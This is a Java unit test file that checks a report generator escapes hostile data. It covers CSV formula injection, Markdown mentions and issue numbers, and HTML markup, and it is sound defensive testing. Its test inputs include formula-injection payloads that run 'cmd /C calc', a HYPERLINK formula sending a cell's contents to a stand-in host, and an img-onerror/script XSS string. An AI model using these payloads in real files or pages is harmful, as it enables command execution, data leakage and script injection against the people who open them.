package dev.mltest.report;

import static org.assertj.core.api.Assertions.assertThat;

import dev.mltest.data.ValueSample;
import java.util.List;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.ValueSource;

/**
 * Issue #11 item 7: data opened by a reviewer never acts. CSV cells a spreadsheet would run as a
 * formula stay text, numbers stay numbers; a mention or issue number in data notifies nobody.
 */
class HostileReportValuesTest {

  @ParameterizedTest
  @ValueSource(
      strings = {
        "=HYPERLINK(\"http://x.test/?\"&A1,\"click\")",
        "+cmd|' /C calc'!A0",
        "-2+3+cmd|' /C calc'!A0",
        "@SUM(1+1)*cmd|' /C calc'!A0",
        "\t=1+1",
        "\r=1+1",
        "-",
        "+",
        "-1e",
        "--1"
      })
  void formulaCellsGetALeadingQuote(String value) {
    String cell = Csv.cell(value);
    String unquoted =
        cell.startsWith("\"") ? cell.substring(1, cell.length() - 1).replace("\"\"", "\"") : cell;
    assertThat(unquoted).as(cell).isEqualTo("'" + value);
  }

  @ParameterizedTest
  @ValueSource(strings = {"-10", "+3", "-0.33%", "+9.09%", "-1.5e-3", "12", "0.5", "x=1", "a@b"})
  void numbersAndOrdinaryTextAreLeftAlone(String value) {
    assertThat(Csv.cell(value)).isEqualTo(value);
  }

  @Test
  void failingValuesCsvShowsQuotedValuesAndNoLiveFormula() {
    String csv =
        FailingValuesTable.csv(
            List.of(
                new ValueSample("'=HYPERLINK(\"http://x.test\")'", 1, 2, null),
                new ValueSample("-10", 3, 4, "id=@admin"),
                new ValueSample("'Retail '", 1, 7, "id='=1+1'")));
    assertThat(csv.lines().skip(1))
        .containsExactly(
            "\"'=HYPERLINK(\"\"http://x.test\"\")'\",1,2,",
            "-10,3,4,id=@admin",
            "' padded'".replace(" padded", "Retail ") + ",1,7,id='=1+1'");
    assertThat(csv.lines()).noneMatch(l -> Csv.formula(l.split(",", -1)[0]));
  }

  @Test
  void mentionsAndIssueNumbersInDataNotifyNobody() {
    String escaped = MarkdownText.escape("ping @octo-org/security and @alice, see #123 and a@b.c");
    assertThat(escaped)
        .doesNotContain("@octo")
        .doesNotContain("@alice")
        .doesNotContain("#123")
        .contains("@" + MarkdownText.ZWJ + "octo-org/security")
        .contains("\\#" + MarkdownText.ZWJ + "123");
    // Readers see the same text: only invisible joiners and markdown escapes were added.
    assertThat(escaped.replace(MarkdownText.ZWJ, "").replace("\\#", "#"))
        .isEqualTo("ping @octo-org/security and @alice, see #123 and a@b.c");
    // A lone @ or # is left as it was.
    assertThat(MarkdownText.escape("a @ b # c")).isEqualTo("a @ b \\# c");
  }

  @Test
  void markupInDataStaysTextInMarkdownAndHtml() {
    String payload = "<img src=x onerror=alert(1)><script>alert(2)</script>";
    assertThat(MarkdownText.escape(payload)).doesNotContain("<").doesNotContain(">");
    assertThat(Html.escape(payload)).doesNotContain("<").doesNotContain(">");
  }
}
